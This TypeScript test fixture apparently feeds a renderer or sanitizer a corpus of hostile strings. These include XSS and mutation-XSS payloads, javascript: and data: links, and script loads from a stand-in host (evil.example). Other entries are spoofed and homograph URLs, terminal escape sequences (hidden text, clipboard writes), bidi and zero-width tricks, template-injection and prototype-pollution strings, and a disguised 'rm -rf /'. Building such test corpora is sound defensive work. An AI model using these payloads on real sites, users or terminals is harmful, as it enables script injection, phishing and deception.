/** Texts that have made pages run somebody else's code, or lie about where they lead. Collected by kind; each is tried in every place. */
const bait = 'window.__ran=1';

const elements = [
  `<script>${bait}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<script/x>${bait}</script>`, `<scr<script>ipt>${bait}</scr</script>ipt>`, `<script\n>${bait}</script\n>`, `"><script>${bait}</script>`,
  `'><script>${bait}</script>`, `</pre><script>${bait}</script>`, `</code></pre><script>${bait}</script>`, `</title><script>${bait}</script>`, `</textarea><script>${bait}</script>`, `</style><script>${bait}</script>`, `]]><script>${bait}</script>`,
  `--><script>${bait}</script>`, `<!--><script>${bait}</script>-->`, `<![CDATA[<script>${bait}</script>]]>`, `<?xml version="1.0"?><script>${bait}</script>`, `\u0000<script>${bait}</script>`, `<\u0000script>${bait}</script>`, `%3Cscript%3E${bait}%3C/script%3E`,
  `<img src=x onerror=${bait}>`, `<img src=x onerror="${bait}"//`, `<IMG """><SCRIPT>${bait}</SCRIPT>">`, `<img/src=x/onerror=${bait}>`, `<img src="x\` \`<script>${bait}</script>"\` \`>`, `<img src=x:alert(alt) onerror=eval(src) alt=0>`, `<img srcset="x" onerror=${bait}>`,
  `<svg onload=${bait}>`, `<svg/onload=${bait}>`, `<svg><script>${bait}</script></svg>`, `<svg><a xlink:href="javascript:${bait}"><text>x</text></a></svg>`, `<svg><animate onbegin=${bait} attributeName=x>`, `<svg><set attributeName=href to=javascript:${bait}>`, `<svg><foreignObject><iframe srcdoc="<script>${bait}</script>">`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${bait}>#x">`,
  `<iframe src="javascript:${bait}"></iframe>`, `<iframe srcdoc="<script>${bait}</script>"></iframe>`, `<iframe onload=${bait}>`, `<object data="javascript:${bait}">`, `<embed src="javascript:${bait}">`, `<applet code="x">`, `<base href="https://evil.example/">`, `<meta http-equiv="refresh" content="0;url=javascript:${bait}">`, `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import url(https://evil.example/x.css);</style>`, `<style>*{background:url(https://evil.example)}</style>`, `<div style="background:url(javascript:${bait})">`, `<div style="position:fixed;inset:0;z-index:9999">over all</div>`, `<p style=x:expression(${bait})>`,
  `<body onload=${bait}>`, `<body onpageshow=${bait}>`, `<html onclick=${bait}>`, `<details open ontoggle=${bait}>`, `<video><source onerror=${bait}>`, `<audio src=x onerror=${bait}>`, `<marquee onstart=${bait}>`, `<input autofocus onfocus=${bait}>`, `<select autofocus onfocus=${bait}>`, `<textarea autofocus onfocus=${bait}>`,
  `<keygen autofocus onfocus=${bait}>`, `<form action="javascript:${bait}"><button>x</button></form>`, `<button formaction="javascript:${bait}">x</button>`, `<isindex action=javascript:${bait}>`, `<dialog open onclose=${bait}>`, `<a href="javascript:${bait}">x</a>`, `<a href="https://evil.example" style="all:unset">github.com</a>`, `<a href=# onclick=${bait}>x</a>`,
  `<div onmouseover="${bait}">x</div>`, `<div onpointerrawupdate=${bait}>`, `<x onclick=${bait} tabindex=1 id=x autofocus onfocus=${bait}>`, `<template><script>${bait}</script></template>`, `<slot name=x>`, `<portal src=javascript:${bait}>`, `<math><mtext><script>${bait}</script>`, `<noscript><p title="</noscript><img src=x onerror=${bait}>">`,
  `<math><mi//xlink:href="data:x,<script>${bait}</script>">`, `<form id=test></form><input form=test formaction=javascript:${bait} type=submit>`, `<frameset onload=${bait}>`, `<table background="javascript:${bait}">`, `<td background=javascript:${bait}>`, `<bgsound src=javascript:${bait}>`, `<layer src=//evil.example>`, `<xml onreadystatechange=${bait}>`,
];

const mutations = [
  `<math><mtext><table><mglyph><style><img src=x onerror=${bait}>`, `<svg></p><style><a id="</style><img src=1 onerror=${bait}>">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${bait}>`, `<noscript><style></noscript><img src=x onerror=${bait}>`, `<p id="</textarea><img src=x onerror=${bait}>">`,
  `<svg><style><!--</style><img src=x onerror=${bait}>-->`, `<select><template><style></template><img src=x onerror=${bait}>`, `<xmp><p title="</xmp><svg/onload=${bait}>">`, `<listing>&lt;img src=x onerror=${bait}&gt;</listing>`, `<b><template><b></b><script>${bait}</script></template>`,
];

const links = [
  `[x](javascript:${bait})`, `[x](JaVaScRiPt:${bait})`, `[x](java\nscript:${bait})`, `[x](java\tscript:${bait})`, `[x](\u0001javascript:${bait})`, `[x]( javascript:${bait})`, `[x](javascript&colon;${bait})`, `[x](javascript&#58;${bait})`, `[x](javascript&#x3a;${bait})`, `[x](&#106;&#97;&#118;&#97;script:${bait})`, `[x](&#x6A&#x61&#x76&#x61script:${bait})`,
  `[x](<javascript:${bait}>)`, `[x](javascript:${bait} "title")`, `[x](vbscript:msgbox(1))`, `[x](data:text/html,<script>${bait}</script>)`, `[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==)`, `[x](file:///etc/passwd)`, `[x](blob:https://a/1)`, `[x](ftp://evil.example/)`, `[x](slack://open)`, `[x](view-source:https://a)`, `[x](about:blank)`, `[x](//evil.example)`, `[x](/\\evil.example)`, `[x](\\\\evil.example)`, `[x](#)`, `[x](?t=1)`, `[x](../..)`,
  `<javascript:${bait}>`, `<vbscript:x>`, `<data:text/html,x>`, `<mailto:a@b.c?subject=x>`, `![x](javascript:${bait})`, `![x](https://evil.example/pixel.gif)`, `![x](data:image/svg+xml,<svg onload=${bait}>)`, `![](x)`, `![a](<https://evil.example/"onerror="${bait}>)`, `[![x](https://evil.example/i.png)](javascript:${bait})`,
  `[x][y]\n\n[y]: javascript:${bait}`, `[y]\n\n[y]: <javascript:${bait}> "t"`, `![x][y]\n\n[y]: https://evil.example/i.gif`, `[x](https://a.example "onmouseover=${bait}")`, `[x](https://a.example/"onmouseover="${bait})`, `[x](https://a.example/'><script>${bait}</script>)`, `https://a.example/"onclick="${bait}`, `https://a.example/<script>${bait}</script>`, `www.a.example"><svg/onload=${bait}>`, `http://javascript:${bait}@evil.example`,
  `[^1]\n\n[^1]: <script>${bait}</script>`, `[^javascript:${bait}]`, `[x]: javascript:${bait}`, `xmpp:foo@bar.baz`, `[x](http:javascript:${bait})`, `[x](https:evil.example)`, `[x](http:///evil.example)`, `[x](https://)`, `[x](https://[::1)`, `[x](https://evil.example:99999)`, `[x](https://%00.example)`,
];

const lies = [
  '[https://github.com](https://evil.example)', '[github.com](https://evil.example)', '[https://github.com/login](https://github.com.evil.example/login)', 'https://github.com@evil.example', 'https://github.com:443@evil.example/x', 'https://github.com%2F@evil.example', '[github.com](https://github.com@evil.example)', 'https://evil.example/https://github.com', '[https://github.com\u202E](https://evil.example)',
  'https://gіthub.com', 'https://xn--gthub-n4a.com', '[github.com](https://xn--gthub-n4a.com)', 'https://ɡithub.com/login', 'https://github。com', 'https://github.com\u2044evil.example', 'https://github.com\uFF0Fevil.example', '[github.com\u200B](https://evil.example)', 'https://evil.example\\@github.com', 'https://evil.example#@github.com', 'https://evil.example?@github.com', 'https://0x7f.1/', 'https://2130706433/', '[ github.com ](https://evil.example)', '[`github.com`](https://evil.example)', '[**github**.com](https://evil.example)',
  '[github.com][1]\n\n[1]: https://evil.example', '[](https://evil.example)', '[\u3164](https://evil.example)', '[![github.com](x)](https://evil.example)', '<https://github.com@evil.example>', 'https://github.com​.evil.example',
];

const terminals = [
  '\u001B]8;;https://evil.example\u0007https://github.com\u001B]8;;\u0007', `\u001B]8;;javascript:${bait}\u001B\\x\u001B]8;;\u001B\\`, '\u001B]52;c;ZXZpbA==\u0007', '\u001B]0;owned\u0007', '\u001B[8mhidden\u001B[0m', '\u001B[30;40mhidden\u001B[0m', '\u001B[2J\u001B[1;1Hall is well', `\u001B[31m<script>${bait}</script>\u001B[0m`, '\u001B[1;31', '\u001BPq#0;2;0\u001B\\', '\u009B31mred', '\u001B]1337;File=inline=1:x\u0007', '10 %\r<b>20 %</b>\r\n', 'safe\rrm -rf /', '\b\b\bgone', '\u001B[999999999C', `\u001B[38;2;1;2;3;"onclick=${bait}mx`,
];

const hidden = [
  '\u202Egnp.exe', 'invoice\u202Efdp.exe', '\u2066if (admin)\u2069', 'a\u200Bb', '\uFEFFx', 'user\u{E0061}\u{E0062}', '\u3164', '\u115F\u1160', '\u00ADsoft', '\u180E', '\u2060\u2061', '\uFFF9a\uFFFAb\uFFFB', 'e\u0301\u0301\u0301\u0301', '&#x202E;gnp', '&#8238;gnp', '&ZeroWidthSpace;x', '&zwnj;x', '\u0085', '\u0000', '\uD800', '\uDC00x', 'мало\u200Eрус', 'rm\u2028-rf',
];

const templates = [
  '{{constructor.constructor("' + bait + '")()}}', '${' + bait + '}', '#{' + bait + '}', '<%= ' + bait + ' %>', '{% raw %}', '{{7*7}}', '[[${7*7}]]', '`${' + bait + '}`', `javascript:${bait}`, `';${bait}//`, `\\";${bait}//`, '__proto__', 'constructor', 'toString', 'dangerouslySetInnerHTML', '{"__html":"<img src=x onerror=' + bait + '>"}', '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=' + bait + '>"}}', '{"type":"div","props":{"dangerouslySetInnerHTML":{"__html":"x"}}}', '{"__proto__":{"polluted":1}}', '{"constructor":{"prototype":{"polluted":1}}}',
  `|a|b|\n|-|-|\n|<script>${bait}</script>|[x](javascript:${bait})|`, `- [ ] <img src=x onerror=${bait}>`, '```html\n<script>' + bait + '</script>\n```', '```"><script>' + bait + '</script>\nx\n```', '~~~ javascript:x\nx\n~~~', '    <script>' + bait + '</script>', '`<script>' + bait + '</script>`', `# <script>${bait}</script>`, `> <img src=x onerror=${bait}>`, `<!-- ${bait} -->`, `a<br/onclick=${bait}>b`, '&lt;script&gt;' + bait + '&lt;/script&gt;', '&#60;script&#62;' + bait + '&#60;/script&#62;', '\\<script>' + bait + '\\</script>', '*<b onclick=' + bait + '>x</b>*', `[a](b)<script>${bait}</script>[c](d)`,
];

const changes = [
  `@@ -1 +1 @@ <script>${bait}</script>\n-<img src=x onerror=${bait}>\n+<svg onload=${bait}>\n`, `diff --git a/<img src=x onerror=${bait}> b/\u202Egnp\n--- a/x\n+++ b/<script>${bait}</script>\n@@ -1 +1 @@\n-a\n+b\n`, `*** Begin Patch\n*** Update File: <script>${bait}</script>\n@@ <img src=x onerror=${bait}>\n-a\n+b\n*** End Patch`, `rename from <b>\nrename to javascript:${bait}\n`, `{"command":"<script>${bait}</script>","file_path":"<img src=x onerror=${bait}>","old_string":"<b>","new_string":"\u202E"}`, `{"todos":[{"content":"<script>${bait}</script>"}]}`, `{"url":"javascript:${bait}","query":"x"}`, `{"url":"https://github.com@evil.example/","prompt":"<b>"}`, `     1→<script>${bait}</script>\n     2→<img src=x onerror=${bait}>\n`,
];

export const hostileTexts: readonly string[] = [...elements, ...mutations, ...links, ...lies, ...terminals, ...hidden, ...templates, ...changes];
